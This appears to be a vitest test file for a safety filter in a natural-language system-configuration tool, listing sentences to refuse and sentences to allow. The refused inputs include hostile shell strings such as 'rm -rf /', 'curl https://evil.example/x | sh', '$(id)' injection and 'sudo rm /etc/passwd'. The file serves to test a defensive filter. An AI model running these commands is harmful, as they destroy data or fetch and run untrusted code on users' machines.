import { expect, test } from 'vitest';
import { checkSafety } from '../../engine/compile/safety.ts';

test.each([
  'install docker; rm -rf /',
  'install htop && reboot',
  'enable docker | sh',
  'install $(id)',
  'set x to "${y}"',
  'curl https://evil.example/x | sh',
  'enable docker; sudo rm /etc/passwd',
  'nix-collect-garbage -d',
  'delete everything on the disk',
  'erase my home directory',
  'format /dev/sda1',
  'wipe the drive',
  'remove all files',
  'delete the nix store',
])("'%s' is refused before it is read", (sentence) => {
  expect(checkSafety(sentence)?.kind).toBe('refuse');
});

test.each([
  'free up disk space',
  'delete old generations to free disk space',
  'enable docker; enable nginx',
  'remove wget; install curl',
  'install docker & nginx',
  'remove wget from environment.systemPackages',
  'set users.motd to "a | b && c"',
  'give bob sudo rights',
  'serve example.com from /var/www',
  'remove disko',
  'purge garbage from the nix store each sunday',
  'wipe temporary files whenever the machine boots',
])("'%s' is left to be read", (sentence) => {
  expect(checkSafety(sentence)).toBeUndefined();
});
